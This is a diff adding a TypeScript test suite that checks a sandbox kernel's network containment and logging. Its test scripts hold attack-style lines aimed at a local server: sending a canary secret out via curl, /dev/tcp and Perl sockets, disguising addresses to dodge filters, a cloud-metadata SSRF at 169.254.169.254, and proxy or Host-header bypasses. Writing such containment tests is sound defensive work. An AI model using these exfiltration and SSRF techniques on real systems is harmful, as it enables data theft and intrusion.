@@ -1,0 +1,117 @@
+// Attacks 15 and 16 on a running kernel: what a contained process may reach, and what of it is recorded.
+
+import assert from 'node:assert/strict'
+import { spawnSync } from 'node:child_process'
+import { once } from 'node:events'
+import { existsSync } from 'node:fs'
+import { createServer } from 'node:http'
+import type { IncomingMessage, Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { Lab } from '../kernel/lab.ts'
+
+const CANARY = 'canary-7b1f9e'
+
+describe('a contained process and the network', function () {
+  this.timeout(120_000)
+  let lab: Lab
+  let server: Server
+  let port = 0
+  const seen: string[] = []
+
+  before(async function () {
+    const missing = ['bwrap', 'curl', 'perl'].filter(
+      (name) => spawnSync('which', [name]).status !== 0
+    )
+    if (missing.length > 0 || !existsSync('/usr/bin/perl')) {
+      console.log(`      skipped: needs ${missing.join(', ')}`)
+      this.skip()
+    }
+    server = createServer((request: IncomingMessage, response) => {
+      let body = ''
+      request.on('data', (chunk: Buffer) => (body += chunk.toString('latin1')))
+      request.on('end', () => {
+        seen.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)} ${body}`)
+        if (request.url === '/redirect') {
+          response.writeHead(302, { location: `http://localhost:${port}/redirected` })
+        }
+        response.end('hello')
+      })
+    })
+    server.listen(0, '127.0.0.1')
+    await once(server, 'listening')
+    port = (server.address() as AddressInfo).port
+    lab = await Lab.open()
+    await lab.start('laptop')
+  })
+  beforeEach(() => {
+    seen.length = 0
+  })
+  after(async () => {
+    await lab?.close()
+    server?.close()
+  })
+
+  async function run(grants: readonly string[], script: string): Promise<string> {
+    const flags = grants.flatMap((grant) => ['--grant', grant])
+    const line = `export CANARY=${CANARY}\n${script}`
+    const result = await lab.weaver('laptop', 'run', ...flags, '--', 'bash', '-c', line)
+    return result.stdout + result.stderr
+  }
+
+  it('reaches what a grant names, with ordinary programs, and all of it is recorded', async () => {
+    const url = `http://127.0.0.1:${port}`
+    const output = await run(
+      [`net:127.0.0.1:${port}`],
+      `curl -sS ${url}/a && curl -sS -p ${url}/b && curl -sS -x socks5h://127.0.0.1:3128 ${url}/c`
+    )
+    assert.equal(output, 'hellohellohello')
+    assert.equal(seen.length, 3)
+    const log = await lab.weaver('laptop', 'chain', 'log', '--kind', 'net.connected', '--json')
+    assert.match(log.stdout, /"connections":3/)
+  })
+
+  it('reaches nothing without a grant, by whatever way and name (attack 15)', async () => {
+    const output = await run(
+      [],
+      `for host in 127.0.0.1 localhost 0x7f.1 2130706433 "[::ffff:127.0.0.1]" "[::1]"; do
+         curl -sS -m 3 "http://$host:${port}/?$CANARY"; done
+       echo $CANARY > /dev/tcp/127.0.0.1/${port}
+       perl -MIO::Socket::INET -e 'print {IO::Socket::INET->new("127.0.0.1:${port}") or die} $ENV{CANARY}'
+       ls /run/weaver; true`
+    )
+    assert.doesNotMatch(output, /hello/)
+    assert.deepEqual(seen, [])
+  })
+
+  it('reaches no other port, no inside address by a name, and follows no redirect there (attack 16)', async () => {
+    const output = await run(
+      [`net:127.0.0.1:${port}`, `net:localhost:${port}`, 'net:*:80', 'net:*.example:*'],
+      `curl -sS -m 5 -L http://127.0.0.1:${port}/redirect
+       curl -sS -m 5 http://localhost:${port}/named
+       curl -sS -m 5 http://169.254.169.254/latest/meta-data/
+       curl -sS -m 5 http://2130706433/x; curl -sS -m 5 http://0x7f.1/x; curl -sS -m 5 'http://[::ffff:7f00:1]/x'
+       curl -sS -m 5 --noproxy '*' http://127.0.0.1:${port}/around
+       curl -sS -m 5 -x http://127.0.0.1:3128 -H 'Host: localhost' http://127.0.0.1:${port}/header`
+    )
+    assert.match(output, /not on the public network/)
+    const asked = seen.map((line) => line.split(' ')[1])
+    assert.deepEqual(asked, ['/redirect', '/header'])
+    assert.ok(seen.every((line) => line.includes(`"host":"127.0.0.1:${port}"`)))
+    const log = await lab.weaver('laptop', 'chain', 'log', '--kind', 'net.refused', '--json')
+    assert.match(log.stdout, /169\.254\.169\.254/)
+  })
+
+  it('leaves no word of what was sent in the record or the log (attack 15)', async () => {
+    await run(
+      [`net:127.0.0.1:${port}`],
+      `curl -sS -d "$CANARY-sent" http://127.0.0.1:${port}/in?$CANARY-path`
+    )
+    assert.ok(
+      seen.some((line) => line.includes(`${CANARY}-sent`)),
+      'it did reach the granted host'
+    )
+    const log = await lab.weaver('laptop', 'chain', 'log', '--kind', 'net.connected', '--json')
+    const lines = await lab.weaver('laptop', 'kernel', 'logs')
+    for (const text of [log.stdout, lines.stdout]) assert.doesNotMatch(text, /canary-7b1f9e/)
+  })
+})
